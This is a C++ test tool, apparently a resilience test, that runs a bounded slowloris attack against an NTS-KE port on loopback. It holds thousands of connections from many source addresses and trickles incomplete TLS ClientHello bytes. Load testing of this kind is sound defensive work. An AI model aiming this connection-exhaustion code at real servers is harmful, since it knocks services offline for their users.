// Test-only slowloris against an NTS-KE port on loopback: holds --connections
// TCP connections from --addresses source addresses (127.0.1.1, 127.0.1.2, …,
// 250 per /24, bound before connect), idle or trickling one byte of a TLS
// ClientHello every --trickle-ms, and reopens every connection the server
// closes at once. Bounded: it exits after --duration seconds. It prints one
// "attacker:" line per second and a summary line at the end.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

// The first bytes of a TLS 1.2-framed ClientHello record; the body never completes.
constexpr uint8_t kHelloPrefix[] = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01,
                                    0xfc, 0x03, 0x03, 0x5a, 0x5a, 0x5a, 0x5a, 0x5a,
                                    0x5a, 0x5a, 0x5a, 0x5a, 0x5a, 0x5a};

struct Conn {
  int fd = -1;
  bool connected = false;
  size_t sent = 0;         // bytes of kHelloPrefix sent
  Clock::time_point next;  // next trickle
};

struct Options {
  uint16_t port = 0;
  int connections = 10000;
  int addresses = 250;
  int duration_s = 60;
  int trickle_ms = 0;  // 0: idle
  int max_reopen_per_s = 20000;
};

int usage() {
  std::fprintf(
      stderr,
      "usage: ke_slowloris_attacker --port N [--connections N] [--addresses N] [--duration S] "
      "[--trickle-ms MS] [--max-reopen-per-s N]\n");
  return 2;
}

in_addr source_address(int index) {
  // 127.0.1.1 … 127.0.1.250, 127.0.2.1 …
  const uint32_t host =
      (127u << 24) | (static_cast<uint32_t>(1 + index / 250) << 8) | (1 + index % 250);
  in_addr a{};
  a.s_addr = htonl(host);
  return a;
}

class Attacker {
 public:
  explicit Attacker(const Options& o) : o_(o), conns_(o.connections) {}

  int run() {
    ep_ = epoll_create1(EPOLL_CLOEXEC);
    if (ep_ < 0) return perror_exit("epoll_create1");
    const auto start = Clock::now();
    const auto end = start + std::chrono::seconds(o_.duration_s);
    auto next_report = start + std::chrono::seconds(1);
    auto budget_refill = start;
    for (size_t i = 0; i < conns_.size(); ++i) pending_open_.push_back(i);
    std::vector<epoll_event> events(1024);
    while (Clock::now() < end) {
      const auto now = Clock::now();
      // Reopen budget: bounded per second so a refusing server cannot make this spin without end.
      if (now >= budget_refill) {
        budget_ = o_.max_reopen_per_s / 100;
        budget_refill = now + std::chrono::milliseconds(10);
      }
      while (!pending_open_.empty() && budget_ > 0) {
        open(pending_open_.back());
        pending_open_.pop_back();
        --budget_;
      }
      const int n = epoll_wait(ep_, events.data(), static_cast<int>(events.size()), 10);
      for (int i = 0; i < n; ++i) on_event(events[i].data.u64, events[i].events);
      if (o_.trickle_ms > 0) trickle(Clock::now());
      if (Clock::now() >= next_report) {
        report("attacker:");
        samples_ += 1;
        held_sum_ += held();
        held_min_ = std::min(held_min_, held());
        held_max_ = std::max(held_max_, held());
        next_report += std::chrono::seconds(1);
      }
    }
    std::printf(
        "attacker: done connections=%d addresses=%d held_avg=%.0f held_min=%zu held_max=%zu "
        "opens=%llu "
        "closed_by_server=%llu reset_early=%llu\n",
        o_.connections, o_.addresses, samples_ ? held_sum_ / samples_ : 0.0,
        samples_ ? held_min_ : 0, held_max_, static_cast<unsigned long long>(opens_),
        static_cast<unsigned long long>(closed_by_server_),
        static_cast<unsigned long long>(reset_early_));
    std::fflush(stdout);
    return 0;
  }

 private:
  static int perror_exit(const char* what) {
    std::perror(what);
    return 1;
  }

  size_t held() const {
    size_t n = 0;
    for (const Conn& c : conns_) n += c.connected ? 1 : 0;
    return n;
  }

  void report(const char* prefix) {
    std::printf("%s held=%zu opens=%llu closed_by_server=%llu reset_early=%llu\n", prefix, held(),
                static_cast<unsigned long long>(opens_),
                static_cast<unsigned long long>(closed_by_server_),
                static_cast<unsigned long long>(reset_early_));
    std::fflush(stdout);
  }

  void open(size_t i) {
    Conn& c = conns_[i];
    c = Conn{};
    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) {
      ++reset_early_;
      pending_open_.insert(pending_open_.begin(), i);  // retried after the others
      return;
    }
    const int one = 1;
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    sockaddr_in src{};
    src.sin_family = AF_INET;
    src.sin_addr = source_address(static_cast<int>(i) % o_.addresses);
    sockaddr_in dst{};
    dst.sin_family = AF_INET;
    dst.sin_port = htons(o_.port);
    dst.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::bind(fd, reinterpret_cast<sockaddr*>(&src), sizeof src) != 0 ||
        (::connect(fd, reinterpret_cast<sockaddr*>(&dst), sizeof dst) != 0 &&
         errno != EINPROGRESS)) {
      ::close(fd);
      ++reset_early_;
      pending_open_.insert(pending_open_.begin(), i);
      return;
    }
    c.fd = fd;
    epoll_event ev{};
    ev.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP;
    ev.data.u64 = i;
    epoll_ctl(ep_, EPOLL_CTL_ADD, fd, &ev);
    ++opens_;
  }

  void close_and_reopen(size_t i, bool by_server) {
    Conn& c = conns_[i];
    if (c.fd >= 0) ::close(c.fd);  // also leaves the epoll set
    if (by_server && c.connected) ++closed_by_server_;
    if (!c.connected) ++reset_early_;
    c = Conn{};
    pending_open_.push_back(i);
  }

  void on_event(size_t i, uint32_t events) {
    Conn& c = conns_[i];
    if (c.fd < 0) return;
    if (events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) return close_and_reopen(i, true);
    if ((events & EPOLLOUT) && !c.connected) {
      int err = 0;
      socklen_t len = sizeof err;
      getsockopt(c.fd, SOL_SOCKET, SO_ERROR, &err, &len);
      if (err != 0) return close_and_reopen(i, false);
      c.connected = true;
      c.next = Clock::now() + std::chrono::milliseconds(o_.trickle_ms);
      epoll_event ev{};
      ev.events = EPOLLIN | EPOLLRDHUP;
      ev.data.u64 = i;
      epoll_ctl(ep_, EPOLL_CTL_MOD, c.fd, &ev);
    }
    if (events & EPOLLIN) {
      uint8_t buf[512];
      const ssize_t n = ::recv(c.fd, buf, sizeof buf, 0);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
        return close_and_reopen(i, true);
    }
  }

  // One byte per connection every trickle_ms, spread over the 10 ms loop turns.
  void trickle(Clock::time_point now) {
    const size_t per_turn =
        std::max<size_t>(1, conns_.size() * 10 / static_cast<size_t>(o_.trickle_ms) + 1);
    for (size_t k = 0; k < per_turn && k < conns_.size(); ++k) {
      Conn& c = conns_[cursor_];
      const size_t i = cursor_;
      cursor_ = (cursor_ + 1) % conns_.size();
      if (!c.connected || now < c.next) continue;
      c.next = now + std::chrono::milliseconds(o_.trickle_ms);
      if (c.sent >= sizeof kHelloPrefix) continue;  // stays silent once the prefix is out
      const ssize_t n = ::send(c.fd, kHelloPrefix + c.sent, 1, MSG_NOSIGNAL);
      if (n == 1) {
        ++c.sent;
      } else if (errno != EAGAIN && errno != EWOULDBLOCK) {
        close_and_reopen(i, true);
      }
    }
  }

  Options o_;
  std::vector<Conn> conns_;
  std::vector<size_t> pending_open_;
  int ep_ = -1;
  int budget_ = 0;
  size_t cursor_ = 0;
  // reset_early: closed (usually reset by the server) before the connect completed, or could not be
  // opened.
  uint64_t opens_ = 0, closed_by_server_ = 0, reset_early_ = 0;
  double held_sum_ = 0;
  size_t samples_ = 0, held_min_ = SIZE_MAX, held_max_ = 0;
};

}  // namespace

int main(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (i + 1 >= argc) return usage();
    const long v = std::strtol(argv[++i], nullptr, 10);
    if (a == "--port")
      o.port = static_cast<uint16_t>(v);
    else if (a == "--connections")
      o.connections = static_cast<int>(v);
    else if (a == "--addresses")
      o.addresses = static_cast<int>(v);
    else if (a == "--duration")
      o.duration_s = static_cast<int>(v);
    else if (a == "--trickle-ms")
      o.trickle_ms = static_cast<int>(v);
    else if (a == "--max-reopen-per-s")
      o.max_reopen_per_s = static_cast<int>(v);
    else
      return usage();
  }
  if (o.port == 0 || o.connections < 1 || o.addresses < 1 || o.addresses > 250 * 254 ||
      o.duration_s < 1 || o.duration_s > 600 || o.trickle_ms < 0 || o.max_reopen_per_s < 100) {
    return usage();
  }
  rlimit rl{};
  getrlimit(RLIMIT_NOFILE, &rl);
  if (rl.rlim_cur < static_cast<rlim_t>(o.connections) + 64) {
    std::fprintf(stderr,
                 "ke_slowloris_attacker: open-file limit %llu is below --connections + 64\n",
                 static_cast<unsigned long long>(rl.rlim_cur));
    return 1;
  }
  return Attacker(o).run();
}
